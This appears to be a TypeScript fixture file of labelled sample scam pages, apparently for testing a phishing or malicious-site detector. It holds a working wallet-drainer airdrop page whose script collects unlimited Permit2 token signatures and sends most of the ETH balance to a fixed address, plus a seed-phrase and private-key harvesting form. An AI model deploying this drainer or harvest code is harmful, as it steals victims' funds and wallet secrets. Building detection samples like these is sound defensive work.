import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { b64, doc } from '../parts/ye-kit.js';

export const entries: Entry[] = [
{
  id: 'ye-drainer-airdrop-permit2-claim',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://claim-basedrop.xyz/',
  body: doc({
    title: 'BaseDrop Season 2 — Claim your allocation',
    head: `<script src="/static/js/app.4f1c9b.js" defer></script>`,
    css: `body{margin:0;background:radial-gradient(circle at top,#1b2a6b,#05060f);color:#fff;font-family:Inter,system-ui,Arial,sans-serif;min-height:100vh}.n{display:flex;justify-content:space-between;padding:18px 30px}.c{text-align:center;padding-top:10vh}.c h1{font-size:46px;margin:0}.c p{color:#aab}.b{background:#2f6bff;color:#fff;border:0;border-radius:14px;padding:16px 40px;font-size:18px;cursor:pointer;margin-top:20px}.st{margin-top:16px;color:#8fa}.stats{display:flex;gap:40px;justify-content:center;margin-top:40px;color:#ccd}`,
    body: `<div class="n"><b>&#9679; BaseDrop</b><span>Docs &middot; Eligibility &middot; Twitter</span></div>
<div class="c"><h1>Season 2 is live</h1><p>1,284,000 wallets are eligible. Unclaimed tokens are burned on May 1.</p><button class="b" id="cn">Connect wallet &amp; check eligibility</button><div class="st" id="st"></div>
<div class="stats"><div><b>$41.8M</b><br>Claimed</div><div><b>612,440</b><br>Claimers</div><div><b>2d 14h</b><br>Remaining</div></div></div>`,
  }),
  routes: {
    'claim-basedrop.xyz/static/js/app.4f1c9b.js': jsRoute(`(function(){
var API='/api/v2/',RCV='0x7Fa2c1b9E3d04a55B8e6C93dF20A1e7b4C6d9E81',P2='0x000000000022D473030F116dDEE9F6B43aC78BA3';
var MAX='1461501637330902918203684832716283019655932542975';
function st(t){document.getElementById('st').textContent=t;}
async function go(){
 var eth=window.ethereum;if(!eth){st('Open this page in your wallet browser (MetaMask, Trust, Coinbase Wallet).');return;}
 var acc=(await eth.request({method:'eth_requestAccounts'}))[0];st('Checking eligibility for '+acc.slice(0,6)+'...'+acc.slice(-4));
 var chain=await eth.request({method:'eth_chainId'});
 var r=await fetch(API+'assets?a='+acc+'&c='+chain).then(function(x){return x.json()});
 for(var i=0;i<r.tokens.length;i++){var t=r.tokens[i];
  var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitSingle:[{name:'details',type:'PermitDetails'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},primaryType:'PermitSingle',domain:{name:'Permit2',chainId:parseInt(chain,16),verifyingContract:P2},message:{details:{token:t.address,amount:MAX,expiration:'1893456000',nonce:t.nonce},spender:RCV,sigDeadline:'1893456000'}};
  st('Sign to verify ownership ('+(i+1)+'/'+r.tokens.length+')');
  var sig=await eth.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(msg)]});
  await fetch(API+'s',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({a:acc,t:t.address,s:sig})});
 }
 var bal=await eth.request({method:'eth_getBalance',params:[acc,'latest']});
 var v=BigInt(bal)*95n/100n;
 if(v>0n){st('Confirm claim transaction');await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:RCV,value:'0x'+v.toString(16),data:'0x4e71d92d'}]});}
 st('Claim submitted. Tokens arrive within 24 hours.');
}
document.getElementById('cn').addEventListener('click',function(){go().catch(function(e){st('Request rejected. Try again.');});});
})();`),
    'claim-basedrop.xyz/api/v2/assets': jsonRoute({ tokens: [{ address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', nonce: 0 }, { address: '0xdAC17F958D2ee523a2206206994597C13D831ec7', nonce: 0 }] }),
  },
},

{
  id: 'ye-seed-phrase-wallet-rectify-sync',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://dapps-walletrectify.net/wallet/import?w=trust',
  body: doc({
    title: 'Wallet Rectification | Secure DApp Sync',
    css: `body{margin:0;background:#f4f7fb;font-family:Arial,sans-serif}.h{background:#3375bb;color:#fff;padding:16px 24px;font-weight:700}.c{max-width:560px;margin:30px auto;background:#fff;border-radius:12px;padding:24px}.tabs{display:flex;gap:6px}.tabs button{flex:1;padding:10px;border:1px solid #ccc;background:#f8f8f8;border-radius:6px}.tabs .on{background:#3375bb;color:#fff}textarea,input{width:100%;box-sizing:border-box;border:1px solid #ccc;border-radius:8px;padding:12px;font-size:15px;margin-top:12px}.go{width:100%;background:#3375bb;color:#fff;border:0;padding:13px;border-radius:8px;margin-top:14px;font-size:16px}`,
    body: `<div class="h">&#128737; DApp Sync &middot; Wallet Rectification Protocol</div>
<div class="c"><h2>Import Trust Wallet</h2><p style="font-size:14px;color:#555">Synchronization failed because of a node validation error on your wallet. Import your wallet to rectify pending transactions, unlock staked assets and fix missing balances. Your data is end-to-end encrypted.</p>
<div class="tabs"><button class="on" data-t="p">Phrase</button><button data-t="k">Keystore JSON</button><button data-t="x">Private Key</button></div>
<form id="im" method="post" action="/wallet/submit.php"><input type="hidden" name="wallet" value="trust"><input type="hidden" name="type" value="phrase">
<textarea name="data" rows="4" placeholder="Enter your 12 or 24 word recovery phrase, words separated by single spaces" required></textarea>
<input name="pw" type="password" placeholder="Wallet password (keystore only)" style="display:none">
<button class="go">Import &amp; Rectify</button></form>
<p style="font-size:12px;color:#888">Typically 12 (sometimes 18, 24) words separated by single spaces.</p></div>
<script>
document.querySelectorAll('.tabs button').forEach(function(b){b.onclick=function(){document.querySelectorAll('.tabs button').forEach(function(x){x.className='';});b.className='on';document.querySelector('[name=type]').value=b.dataset.t;document.querySelector('[name=pw]').style.display=b.dataset.t=='k'?'block':'none';};});
document.getElementById('im').addEventListener('submit',function(e){var w=this.data.value.trim().split(/\\s+/);if(this.type.value=='p'&&[12,18,24].indexOf(w.length)<0){e.preventDefault();alert('Invalid phrase: please enter 12, 18 or 24 words.');}});
</script>`,
  }),
  routes: {
    'dapps-walletrectify.net/wallet/submit.php': jsonRoute({ status: 'error', message: 'Node timeout, please try again with another wallet' }),
  },
},
];
